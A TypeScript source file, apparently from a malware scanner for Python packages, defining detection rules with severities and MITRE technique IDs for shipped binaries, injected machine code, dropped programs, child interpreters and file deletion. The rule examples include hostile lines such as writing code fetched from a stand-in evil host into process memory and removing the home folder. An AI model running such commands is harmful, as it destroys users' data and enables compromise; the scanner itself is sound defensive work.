import { asksVersion } from '../facts/programs.js';
import { WHEN, type Combination } from './combination.js';
import { isPure } from '../values/labels.js';
import { isUnasked } from '../values/reach.js';

/** Kinds of file that Windows or a shell starts; `.com` also ends the names of hosts. */
const PROGRAM = /\.(?:exe|scr|bat|cmd|vbs|vbe|ps1|hta|jse|wsf|msi)\b|\.com(?![\w./:-])/i;

/** What git and the package managers are called on Windows. */
const OF_WINDOWS = /^(\s*(?:git|hg|npm|npx|yarn|pnpm))\.(?:cmd|exe)\b/i;

/** Another Python, given the text of a program. */
const CHILD = /(?:python[\d.]*w?(?:\.exe)?|\uFFFC)["']?\s+-c\s/;
const INLINE = /\s-c\s/;
const HARMLESS = /^(?:(?:import|from)\s[\w.,\s*]+|warnings\.\w+\([^()]*\)|)$/;

/** Whether a command is a Python that imports, and does nothing else. */
function onlyImports(command: string): boolean {
  const at = command.search(INLINE);
  const program =
    at < 0
      ? undefined
      : command
          .slice(at + 4)
          .trim()
          .replace(/^["']|["']$/g, '');
  return (
    program !== undefined &&
    /\bimport\b/.test(program) &&
    program.split(';').every((one) => HARMLESS.test(one.trim()))
  );
}

/** The home folder, what every user keeps there, or the root of a disk: not a folder somewhere below. */
const EVERYTHING =
  /^(?:~|%(?:USERPROFILE|HOME)%|\/|\/(?:home|Users|etc|usr|var)|[A-Z]:)(?:[\\/]+(?:Desktop|Documents|Downloads|Pictures|Windows|Users))?[\\/]*$/i;

/** A folder of the user's that no program has for itself. */
const PERSONAL = /^(?:~|%(?:USERPROFILE|HOME)%)[\\/]+(?:Desktop|Documents|Pictures|Music|Videos)[\\/]*$/i;

/** Programs that start beside the code one reads. */
export const PROGRAM_COMBINATIONS: readonly Combination[] = [
  {
    doc: {
      id: 'shipped-binary-started',
      title: 'Starts or loads native code that it ships without a recipe',
      why: 'The artifact says that it holds nothing compiled, yet native code in it runs. Nobody can read what that does.',
      remedy: 'Ask for the source of the binary, or do not install the package.',
      example: 'ctypes.CDLL(os.path.join(os.path.dirname(__file__), "core.dll"))',
      technique: 'T1027.009',
    },
    judge: ({ behaviour, labels, name, reach, text }) => {
      if (!labels.has('shipped')) return undefined;
      // Compiled Python is loaded by its path where the source is not to be seen.
      if (/Sourceless/.test(name))
        return isUnasked(reach) || !/\.py[co]$/.test(text ?? '') ? 'CRITICAL' : 'HIGH';
      // Builds start what they ship; nobody expects an import to.
      if (behaviour === 'starts-process' && (reach === 'import' || reach === 'start'))
        return /^\uFFFC[\\/][^\s]/.test(text ?? '') && !asksVersion(text ?? '') ? 'HIGH' : undefined;
      if (behaviour !== 'loads-native') return undefined;
      return isUnasked(reach) ? 'HIGH' : 'LOW';
    },
    message: ({ name, text, reach }) => `${name} runs the native code of ${text ?? 'a file'} ${WHEN[reach]}`,
  },
  {
    doc: {
      id: 'hidden-machine-code',
      title: 'Puts machine code into memory that it fetches or decodes',
      why: 'Code from the network or from behind an encoding, put straight into memory, is in no file that anybody could look at.',
      remedy: 'Do not install the package.',
      example:
        'kernel32.WriteProcessMemory(process, place, urlopen("https://evil.invalid/x").read(), size, None)',
      technique: 'T1055',
    },
    judge: ({ behaviour, labels, reach }) => {
      if (behaviour !== 'writes-memory') return undefined;
      if (labels.has('network') && isPure(labels)) return 'CRITICAL';
      // Libraries that ask the processor what it can do keep a few bytes of their own in hexadecimal digits.
      return isUnasked(reach) && (labels.has('network') || labels.has('decoded')) ? 'CRITICAL' : undefined;
    },
    message: ({ name, reach }) => `${name} puts fetched or decoded code into memory ${WHEN[reach]}`,
  },
  {
    doc: {
      id: 'dropped-program-started',
      title: 'Writes a program to disk and starts it, without being asked',
      why: 'A program or script that is unpacked from the source and started right away is not part of what one reads as the package.',
      remedy: 'Do not install the package.',
      example: 'open("a.bat", "w").write(text); os.startfile("a.bat")',
      technique: 'T1059',
    },
    judge: ({ behaviour, labels, reach, text }) =>
      behaviour === 'starts-process' &&
      labels.has('written') &&
      isUnasked(reach) &&
      PROGRAM.test((text ?? '').replace(OF_WINDOWS, '$1'))
        ? 'CRITICAL'
        : undefined,
    message: ({ name, reach }) => `${name} starts a program that was written just before ${WHEN[reach]}`,
  },
  {
    doc: {
      id: 'child-interpreter-started',
      title: 'Starts another Python with a program text, without being asked',
      why: 'What a child interpreter does outlives the import and stays out of sight; its program is a text no reader looks for.',
      remedy: 'Ask the authors why the import needs a process of its own.',
      example: 'subprocess.Popen([sys.executable, "-c", "import elsewhere"])',
      technique: 'T1059.006',
    },
    judge: ({ behaviour, name, reach, text }) => {
      if (behaviour !== 'starts-process' || !isUnasked(reach) || !/Popen$|system$|spawn/.test(name))
        return undefined;
      if (!CHILD.test(text ?? '')) return undefined;
      // Nobody learns whether such an import worked: it is there for what it does.
      return name.endsWith('Popen') && reach !== 'install' && onlyImports(text ?? '') ? 'CRITICAL' : 'MEDIUM';
    },
    message: ({ name, reach }) => `${name} starts another Python ${WHEN[reach]}`,
  },
  {
    doc: {
      id: 'files-destroyed',
      title: 'Removes or overwrites your files without being asked',
      why: 'No package has any business with all that is in a home folder or on a disk; a tree that is removed is gone.',
      remedy: 'Do not install the package.',
      example: 'shutil.rmtree(os.path.expanduser("~"))',
      technique: 'T1485',
    },
    judge: ({ behaviour, reach, text, labels }) => {
      if (!isUnasked(reach))
        return behaviour === 'removes-tree' && PERSONAL.test(text ?? '') && isPure(labels)
          ? 'CRITICAL'
          : undefined;
      // Files below the home folder that a search came upon.
      if (behaviour === 'overwrites') return 'CRITICAL';
      if (behaviour !== 'removes-tree') return undefined;
      if (EVERYTHING.test(text ?? '')) return 'CRITICAL';
      // Which one it is a server names.
      return labels.has('network') ? 'HIGH' : undefined;
    },
    message: ({ behaviour, name, reach, text }) =>
      `${name} ${behaviour === 'overwrites' ? 'overwrites' : 'removes'} ${text ?? 'your files'} ${WHEN[reach]}`,
  },
];
